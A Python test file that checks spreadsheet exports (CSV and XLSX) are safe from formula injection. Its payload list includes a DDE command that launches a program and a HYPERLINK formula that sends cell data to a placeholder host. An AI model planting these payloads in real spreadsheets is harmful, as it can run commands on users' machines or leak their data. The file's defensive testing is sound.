"""Exports: no cell is ever taken for a formula, and numbers stay numbers."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from foundation import workbooks
from foundation.sheets import BOM, Cell, Sheet, csv_bytes, xlsx_bytes

ATTACKS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    '","=1',
]


@pytest.fixture(autouse=True)
def patience(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is written is tested here, and not how soon a busy machine writes it."""
    monkeypatch.setattr(workbooks, "PATIENCE_SECONDS", 60.0)


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode()
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def worksheet(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert not [name for name in book.namelist() if "externalLink" in name or "_rels/sheet" in name]
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_an_amount_below_nothing_is_a_number_and_no_formula() -> None:
    written = csv_bytes(Sheet("表", ["金额"], [[Decimal("-12.50")]]))
    assert read_csv(written) == [["金额"], ["-12.50"]]


@pytest.mark.parametrize("text", ATTACKS)
def test_in_csv_a_text_that_could_be_a_formula_is_written_as_a_text(text: str) -> None:
    (_, (cell, number)) = read_csv(csv_bytes(Sheet("表", ["名称", "积分"], [[text, -5]])))
    if text.startswith('"'):
        assert cell == text  # it is a text already, and stays one cell
    else:
        assert cell == f"'{text}"
    assert number == "-5"


async def test_in_xlsx_every_text_is_a_text() -> None:
    texts = [*ATTACKS, "http://example.invalid/", "0123", "mailto:a@example.invalid"]
    sheet = worksheet(await xlsx_bytes(Sheet("表", ["名称"], [[text] for text in texts])))
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert sheet.count('t="inlineStr"') == 1 + len(texts)


async def test_cells_of_every_type() -> None:
    row: list[Cell] = ["奶粉", 12, True, None, date(2026, 10, 31), datetime(2026, 10, 31, 16, 5, tzinfo=UTC)]
    (header, cells) = read_csv(csv_bytes(Sheet("表", list("abcdef"), [row])))
    assert header == list("abcdef")
    assert cells == ["奶粉", "12", "是", "", "2026-10-31", "2026-11-01 00:05"]
    sheet = worksheet(await xlsx_bytes(Sheet("表", list("abcdef"), [row])))
    assert '<c r="B2"><v>12</v></c>' in sheet
    assert 'r="C2" t="inlineStr"' in sheet


def test_a_comma_and_a_quote_do_not_make_more_cells() -> None:
    (_, cells) = read_csv(csv_bytes(Sheet("表", ["a"], [['a,"b"\r\nc']])))
    assert cells == ['a,"b"\r\nc']


async def test_twenty_thousand_rows_are_written() -> None:
    rows: list[list[Cell]] = [[f"门店{number}", number, -number] for number in range(20_000)]
    assert len(read_csv(csv_bytes(Sheet("表", ["a", "b", "c"], rows)))) == 20_001
    assert '<c r="C20001"><v>-19999</v></c>' in worksheet(await xlsx_bytes(Sheet("表", ["a", "b", "c"], rows)))
